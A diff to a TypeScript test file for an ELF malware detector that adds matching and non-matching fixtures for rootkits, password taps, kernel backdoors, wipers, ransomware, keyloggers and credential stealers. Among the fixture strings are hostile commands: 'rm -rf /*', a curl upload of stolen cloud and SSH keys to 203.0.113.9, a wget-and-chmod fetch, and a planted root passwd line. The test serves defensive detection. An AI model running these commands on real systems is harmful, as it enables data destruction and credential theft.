@@ -52,9 +52,16 @@ const TRAITS: Readonly<Record<string, Trait>> = {
   },
   elf_preload_rootkit: {
     hits: {
+      'hands on what it does not hide': { imports: ['dlsym'], exports: ['readdir', 'readdir64'] },
       'hides files': { ...texts('/etc/ld.so.preload'), imports: ['dlsym'], exports: ['readdir', 'fopen', 'unlink'] },
     },
-    misses: { 'wraps without the preload file': { imports: ['dlsym'], exports: ['readdir', 'fopen', 'unlink'] } },
+    misses: {
+      'pretends owners, and lists folders too': {
+        imports: ['dlsym'],
+        exports: ['readdir', 'fopen', 'chown', 'getuid'],
+      },
+      'wraps what is not listed': { imports: ['dlsym'], exports: ['open', 'fopen', 'unlink'] },
+    },
   },
   elf_kernel_rootkit: {
     hits: { 'hooks and hides': { type: 1, sections: [module], strings: ['sys_call_table', 'hide_pid'] } },
@@ -98,6 +105,177 @@ const TRAITS: Readonly<Record<string, Trait>> = {
     hits: { 'connects a shell': { imports: ['socket', 'connect', 'dup2', 'execve'], strings: ['/bin/sh'] } },
     misses: { connects: { imports: ['socket', 'connect', 'read', 'write'], strings: ['/bin/sh'] } },
   },
+  elf_taps_passwords: {
+    hits: {
+      'hears what a terminal reads and sends it': {
+        type: 3,
+        exports: ['read', 'write'],
+        imports: ['dlsym', 'socket', 'sendto'],
+        strings: ['assword:'],
+      },
+      'a module that keeps a list': {
+        type: 3,
+        exports: ['pam_sm_authenticate', 'pam_sm_setcred'],
+        imports: ['pam_get_authtok', 'fopen', 'fprintf', 'strcmp'],
+        strings: ['/var/tmp/.cache', '%s:%s'],
+      },
+    },
+    misses: {
+      'a wrapper of sockets': {
+        type: 3,
+        exports: ['read', 'write', 'socket', 'connect', 'sendto'],
+        imports: ['dlsym', 'socket', 'sendto'],
+        strings: ['password:'],
+      },
+      'a module that compares with what is stored': {
+        type: 3,
+        exports: ['pam_sm_authenticate'],
+        imports: ['pam_get_authtok', 'crypt', 'fopen'],
+        strings: ['%s:%s'],
+      },
+    },
+  },
+  elf_kernel_backdoor: {
+    hits: {
+      'starts a shell for a packet': {
+        type: 1,
+        sections: [module],
+        imports: ['nf_register_net_hook', 'call_usermodehelper'],
+        strings: ['/bin/bash', '-c'],
+      },
+      'writes keys to a file': {
+        type: 1,
+        sections: [module],
+        imports: ['register_keyboard_notifier', 'filp_open', 'kernel_write'],
+      },
+    },
+    misses: {
+      'starts a helper of the system': {
+        type: 1,
+        sections: [module],
+        imports: ['register_kprobe', 'call_usermodehelper'],
+        strings: ['/sbin/poweroff'],
+      },
+      'speaks the keys': { type: 1, sections: [module], imports: ['register_keyboard_notifier'] },
+    },
+  },
+  elf_wipes_disks: {
+    hits: {
+      'every name of a disk, and everything deleted': texts(
+        '/dev/sda',
+        '/dev/vda',
+        '/dev/nvme0n1',
+        'rm -rf /* 2>/dev/null',
+      ),
+      'few functions, and a restart': {
+        ...texts('/dev/sda', '/dev/mtd0', '/dev/mmcblk0'),
+        imports: ['open', 'write', 'reboot'],
+      },
+    },
+    misses: {
+      'lists disks': texts('/dev/sda', '/dev/vda', '/dev/nvme0n1'),
+      'a tool for any folder': texts('--no-preserve-root', 'rm -rf'),
+    },
+  },
+  elf_ransomware: {
+    hits: {
+      'a note, and files replaced': {
+        ...texts('All your files are encrypted', 'use tor browser', 'http://a.onion/'),
+        imports: ['readdir64', 'rename'],
+      },
+      'a note, and machines stopped': texts('files were encrypted', 'bitcoin', 'esxcli vm process kill', '.vmdk'),
+    },
+    misses: {
+      'a manual': texts('All your files are encrypted', 'bitcoin'),
+      'both words, far apart': {
+        ...texts('files were encrypted', '.'.repeat(9000), 'address.onion'),
+        imports: ['readdir64', 'rename'],
+      },
+      'a manager of machines': { ...texts('vim-cmd vmsvc/getallvms'), imports: ['readdir', 'rename'] },
+    },
+  },
+  elf_logs_keystrokes: {
+    hits: {
+      'reads keys and connects': {
+        ...texts('/dev/input/event0', '[ENTER]', '[ESC]', '[TAB]'),
+        imports: ['socket', 'connect', 'getaddrinfo'],
+      },
+    },
+    misses: {
+      'a daemon for keys': {
+        ...texts('/dev/input/event0', 'KEY_ENTER', 'KEY_ESC', 'KEY_TAB'),
+        imports: ['socket', 'connect', 'getaddrinfo'],
+      },
+    },
+  },
+  elf_opens_hidden_shell: {
+    hits: {
+      'opens the firewall and keeps no history': {
+        ...texts('iptables -t nat -A PREROUTING -p tcp -s %s', 'HISTFILE', '/bin/sh'),
+        imports: ['socket', 'setsockopt', 'forkpty', 'execl'],
+      },
+    },
+    misses: {
+      'a server of terminals': { ...texts('/bin/sh'), imports: ['socket', 'setsockopt', 'forkpty', 'execl'] },
+      'a manager of firewalls': {
+        ...texts('iptables -t nat -A PREROUTING -j DNAT'),
+        imports: ['socket', 'setsockopt', 'execl', 'dup2'],
+      },
+    },
+  },
+  elf_poses_as_system_process: {
+    hits: {
+      'takes a name and runs from memory': { ...texts('kworker/u8:3'), imports: ['memfd_create', 'prctl', 'fexecve'] },
+    },
+    misses: {
+      'a monitor that filters': { ...texts('kworker/%d:%d', 'kworker'), imports: ['prctl', 'execve'] },
+      'a monitor that starts nothing': { ...texts('[kthreadd]'), imports: ['prctl', 'opendir'] },
+    },
+  },
+  elf_steals_cloud_keys: {
+    hits: {
+      'four places and an upload': texts(
+        '/root/.aws/credentials',
+        '/root/.kube/config',
+        '/root/.docker/config.json',
+        '/root/.ssh/id_rsa',
+        "curl -s -F 'f=@/tmp/.c' http://203.0.113.9/",
+      ),
+    },
+    misses: {
+      'a scanner for keys': texts('.aws/credentials', '.kube/config', '.docker/config.json', '.ssh/id_rsa'),
+    },
+  },
+  elf_spreads_by_passwords: {
+    hits: {
+      'tries them and fetches': {
+        ...texts('1qaz2wsx', 'P@ssw0rd', 'qwerty', 'wget http://203.0.113.9/x; chmod +x x'),
+        imports: ['ssh_userauth_password'],
+      },
+    },
+    misses: {
+      'tries them': { ...texts('1qaz2wsx', 'P@ssw0rd', 'qwerty'), imports: ['ssh_userauth_password'] },
+    },
+  },
+  elf_plants_root_account: {
+    hits: { 'a line of root': texts('/etc/passwd', 'sys:$6$abcdefgh$ijklmnopqrstuvwx/y:0:0::/root:/bin/sh') },
+    misses: {
+      'a line of nobody': texts('/etc/passwd', 'nobody:x:65534:65534::/:/bin/false'),
+      'a hash to test with': texts('/etc/passwd', '$6$abcdefgh$ijklmnopqrstuvwx/y'),
+    },
+  },
+  elf_packer_damaged: {
+    hits: {
+      'noise alone': { withoutSections: true, sections: [{ name: 'x', data: noise(20_000) }] },
+    },
+    misses: {
+      'noise with a section table': { sections: [{ name: 'x', data: noise(20_000) }] },
+      'no section table, and text': {
+        withoutSections: true,
+        sections: [{ name: 'x', data: Buffer.alloc(9000, 'text ') }],
+      },
+    },
+  },
 }
 
 async function findingsOf(recipe: ElfRecipe): Promise<readonly string[]> {
@@ -115,4 +293,14 @@ for (const [id, { hits, misses }] of Object.entries(TRAITS)) {
 
 test('every detector has hits and as many misses', () => {
   assert.deepEqual(elfDetectors.map(({ id }) => id).toSorted(), Object.keys(TRAITS).toSorted())
+})
+
+test('texts under one byte of XOR are marks as well', async () => {
+  const hide = (text: string) => Buffer.from(text).map((byte) => byte ^ 0x22)
+  const table = ['/bin/busybox', '/dev/watchdog', 'TSource Engine Query', 'vizxv', 'xc3511', 'juantech', 'botkill']
+  const data = Buffer.concat(table.flatMap((text) => [hide(text), Buffer.alloc(1)]))
+  const recipe = { sections: [{ name: '.data', data }] }
+  assert.ok((await findingsOf(recipe)).includes('elf_botnet'))
+  const { root } = await analyzeFile(buildElf(recipe), { fileName: 'sample', now: new Date(0) })
+  assert.equal(root.facts.marks?.find(({ text }) => text === 'vizxv')?.key, 0x22)
 })
